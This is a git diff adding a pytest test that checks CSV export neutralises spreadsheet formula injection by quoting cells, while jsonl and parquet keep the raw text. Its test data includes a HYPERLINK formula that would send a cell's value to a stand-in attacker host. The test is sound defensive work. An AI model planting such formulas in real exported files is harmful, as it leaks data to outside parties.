@@ -152,3 +152,23 @@ def test_parquet_out_is_a_folder(tmp_path: Path) -> None:
     (tmp_path / "out.parquet").write_text("x")
     with pytest.raises(SinkError, match="folder of parts"):
         prior_ids(str(tmp_path / "out.parquet"), "parquet", resume=True, overwrite=False)
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"card")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_other_formats_keep_the_text(tmp_path: Path, fmt: str) -> None:
+    out = tmp_path / f"out.{fmt}"
+    hostile = [Outcome({**_error(text).record, "file": text}) for text in FORMULAS]
+    _write(out, fmt, [*hostile, _ok("12.749.625-K")])
+    if fmt == "csv":
+        rows = list(csv.DictReader(out.open(newline="")))
+        assert [(row["id"], row["file"]) for row in rows[:-1]] == [("'" + t, "'" + t) for t in FORMULAS]
+        assert rows[-1]["id"] == "12.749.625-K" and rows[-1]["number"] == "number-12.749.625-K"
+        assert rows[-1]["details"] == '{"side": "front"}' and rows[-1]["confidence_surname"] == "0.5"
+    elif fmt == "jsonl":
+        assert [json.loads(line)["file"] for line in out.read_text().splitlines()][:-1] == FORMULAS
+    else:
+        assert pads.dataset(out).to_table().column("file").to_pylist()[:-1] == FORMULAS
+    assert prior_ids(str(out), fmt, resume=True, overwrite=False) == {*FORMULAS, "12.749.625-K"}  # resume reads them
